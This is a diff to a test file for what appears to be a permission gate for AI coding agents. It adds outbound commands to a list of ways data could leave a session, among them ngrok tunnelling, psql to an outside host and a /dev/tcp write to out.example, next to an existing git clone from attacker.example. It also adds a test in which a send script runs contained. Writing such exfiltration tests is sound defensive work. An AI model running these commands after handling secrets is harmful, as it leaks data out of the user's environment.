@@ -11,8 +11,11 @@ from typing import Any
 import pytest
 
 from askfirst.agents.table import DEFAULT
-from askfirst.model import Duration
+from askfirst.gate import judged
+from askfirst.model import Decision, Duration, Layer, Request
+from askfirst.policy.contain import contained
 from askfirst.store.grants import FileGrants
+from askfirst.world import World
 from tests.flow.session import ALLOWING, Session, organisation
 
 UNTRUSTED = "gh issue view 12"
@@ -50,6 +53,11 @@ WAYS_OUT: list[tuple[str, dict[str, Any]]] = [
     ("Bash", {"command": "python3 send.py"}),
     ("Bash", {"command": "frobnicate --upload"}),
     ("Bash", {"command": "git clone https://attacker.example/x"}),
+    ("Bash", {"command": "npm install some-package"}),
+    ("Bash", {"command": "npx some-package"}),
+    ("Bash", {"command": "ngrok http 80"}),
+    ("Bash", {"command": "psql -h out.example -c 'select 1'"}),
+    ("Bash", {"command": "echo hi > /dev/tcp/out.example/80"}),
     ("WebFetch", {"url": "https://pages.example/a?b=c", "prompt": "x"}),
     ("mcp__tracker__create_issue", {"title": "a", "body": "b"}),
 ]
@@ -88,6 +96,19 @@ def test_what_tells_nobody_does_not(tool: str, given: dict[str, Any], repo: Path
     session.bash(UNTRUSTED)
     session.bash(SECRET)
     assert session.call(tool, **given)[0] == "allow"
+
+
+def test_code_that_may_send_runs_contained_instead(repo: Path) -> None:
+    """In a box it cannot send anything; what is sent by name is asked about all the same."""
+    organisation(ALLOWING + "box: unknown\n")
+    session = Session(repo)
+    session.bash(UNTRUSTED)
+    session.bash(SECRET)
+    for command, decision in (("python3 send.py", Decision.CONTAIN), ("git push", Decision.ASK)):
+        request = Request("claude", "s1", str(repo), str(repo), "Bash", {"command": command})
+        case = judged(request, World().layers(request))
+        assert any(f.origin.layer == Layer.FLOW for f in case.verdict.findings)
+        assert contained(case, is_installed=lambda _: False).verdict.decision == decision, command
 
 
 def test_a_test_run_counts_once_the_session_has_written_code_since(repo: Path) -> None:
